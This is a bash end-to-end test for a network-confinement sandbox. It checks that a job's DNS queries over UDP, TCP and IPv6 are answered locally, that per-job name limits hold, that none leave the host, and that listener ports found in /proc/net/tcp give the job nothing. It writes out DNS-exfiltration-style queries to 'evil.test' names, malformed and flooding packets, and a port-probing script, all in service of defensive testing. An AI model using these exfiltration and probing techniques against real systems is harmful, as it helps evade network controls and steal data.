#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# P1 by DNS and at the listeners: every way of asking ends at the job's own resolver, no query and no datagram leaves, and the
# listeners give nothing to a job that finds their ports and talks to them directly.
. "$(dirname "$0")/../lib.sh"
[ -z "${EGRET_DIRECT:-}" ] || skip_all "speaks of egret only"
. "$ROOT/tests/e2e/origins.sh"
need python3
origins_up
config '"limits": { "names": 64 }'
spawn in_origin "$(helper sink)" "$TMP/dns.log" 198.51.100.53:53 "api.test=$GOOD" "*.evil.test=$EVIL"
: >"$TMP/dns.log"
policy '"allow": "GET https://api.test/**"' '"allow": "GET http://plain.test:8080/**"'
JOB_OPTS=(--user nobody)
cat >"$TMP/ask.py" <<'PY'
import ctypes, socket, struct, sys
def query(name, qtype=1, ident=0x1234):
    q = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))
    return struct.pack('>HHHHHH', ident, 0x100, 1, 0, 0, 0) + q + b'\0' + struct.pack('>HH', qtype, 1)
def show(what, answer, source=None):
    ident, flags, qd, an = struct.unpack('>HHHH', answer[:8])
    addr = socket.inet_ntoa(answer[-4:]) if an and len(answer) > 16 else '-'
    print(what, 'rcode', flags & 15, 'answers', an, addr, *( [source[0], source[1]] if source else []))
def exact(s, n):
    b = b''
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c: raise EOFError
        b += c
    return b
def unconnected(what, server, name, qtype=1, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(query(name, qtype), server)
    show(what, *s.recvfrom(2048))
def connected(what, server, name, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5)
    s.connect(server); s.send(query(name)); show(what, s.recv(2048), s.getpeername())
def tcp(what, server, *names):
    s = socket.create_connection(server, 5)
    for n in names: s.sendall(struct.pack('>H', len(query(n))) + query(n))
    for n in names: show(what, exact(s, struct.unpack('>H', exact(s, 2))[0]), s.getpeername())
PY
ask() { job env PYTHONPATH="$TMP" python3 -c "from ask import *
$1" 2>&1; }
ns='("198.51.100.53", 53)'

like "$(ask "unconnected('u', $ns, 'api.test')")" '^u rcode 0 answers 1 198\.1[89]\.[0-9.]+ 198\.51\.100\.53 53$' "unconnected UDP: answered from the address that was asked"
like "$(ask "connected('c', $ns, 'api.test')")" '^c rcode 0 answers 1 198\.1[89]\.[0-9.]+ 198\.51\.100\.53 53$' "connected UDP"
like "$(ask "unconnected('6', ('2001:db8:51::10', 53, 0, 0), 'api.test', family=socket.AF_INET6)")" '^6 rcode 0 answers 1 198\.1[89]\.[0-9.]+ 2001:db8:51::10 53$' "UDP over IPv6"
like "$(ask "connected('m', ('::ffff:198.51.100.53', 53), 'api.test', family=socket.AF_INET6)")" '^m rcode 0 answers 1 198\.1[89]' "UDP to a v4-mapped address"
out=$(ask "tcp('t', $ns, 'api.test', 'exfil.evil.test')")
is "$(grep -Ec '^t rcode 0 answers 1 198\.1[89]\.[0-9.]+ 198\.51\.100\.53 53$' <<<"$out")" 2 "TCP 53: two questions on one connection"
like "$(ask "unconnected('d', ('127.0.0.11', 40000), 'api.test')")" '^d rcode 0 answers 1 198\.1[89]' "any port of docker's resolver address"
like "$(ask "unconnected('x', $ns, 'c2VjcmV0.evil.test', 16)")" '^x rcode 0 answers 0' "TXT: no data"
like "$(ask "unconnected('h', $ns, 'api.test', 65)")" '^h rcode 0 answers 0' "HTTPS: no data, so no ECH keys"
like "$(ask "unconnected('r', $ns, 'data.1.2.in-addr.arpa', 12)")" '^r rcode [03] answers 0' "reverse names: nothing"
# shellcheck disable=SC2016
out=$(ask "
for bad in (b'', b'x', query('a.test')[:-3], query('a.test') + b'junk', query('a.test')[:12] + b'\xc0\x0c\0\1\0\1', b'\xff' * 600, query('a.test') * 200):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.1); s.sendto(bad[:60000], $ns)
    try: s.recv(2048)
    except TimeoutError: pass
for half in (b'', b'\0', b'\0\x20abc', b'\xff\xff' + b'y' * 3000):
    s = socket.create_connection($ns, 5)
    try: s.sendall(half)
    except OSError: pass
    s.close()
unconnected('after', $ns, 'api.test')")
like "$out" '^after rcode 0 answers 1' "malformed and half questions: the next is answered"
out=$(ask "
held = []
for i in range(200):
    held.append(socket.create_connection($ns, 5))
tcp('after', $ns, 'api.test')
unconnected('after', $ns, 'api.test')")
is "$(grep -c '^after rcode 0 answers 1' <<<"$out")" 2 "200 idle TCP connections: the oldest make room"
events_clear
out=$(ask "
unconnected('kept', $ns, 'api.test')
for i in range(100): unconnected('n', $ns, f'n{i}.evil.test')
unconnected('kept', $ns, 'api.test')")
is "$(grep -c '^n rcode 0 answers 1' <<<"$out")" 63 "limits.names bounds the names of a job"
is "$(grep -c '^n rcode 2 answers 0' <<<"$out")" 37 "past it: SERVFAIL"
is "$(grep -c '^kept rcode 0' <<<"$out")" 2 "known names are still answered"
like "$(events)" '"kind":"dns.query","verdict":"deny","reason":"limit"' "and there is an event"
is "$(grep -c . "$TMP/dns.log")" 0 "no query left the host"

# The ports of the listeners stand in /proc/net/tcp for everybody to see.
cat >"$TMP/direct.py" <<'PY'
import socket, sys
ports = [int(l.split()[1].split(':')[1], 16) for l in open('/proc/net/tcp').read().splitlines()[1:] if l.split()[3] == '0A']
print('ports', len(ports))
for p in ports:
    for ask in (b'GET http://plain.test:8080/hello.txt HTTP/1.1\r\nHost: plain.test:8080\r\n\r\n', b'CONNECT api.test:443 HTTP/1.1\r\n\r\n', b'\x16\x03\x01'):
        s = socket.socket(); s.settimeout(3)
        try:
            s.connect(('127.0.0.1', p)); s.sendall(ask); got = s.recv(100)
        except OSError: got = b''
        if got: print('answered', p, got[:40])
PY
events_clear
before=$(origin_log | wc -l)
out=$(job python3 "$TMP/direct.py" 2>&1)
like "$out" '^ports [2-9]' "the job sees the listeners' ports"
unlike "$out" 'answered' "and gets nothing from them directly"
like "$(events)" '"reason":"no_record"' "there is an event"
is "$(origin_log | wc -l)" "$before" "nothing was sent on"
done_testing
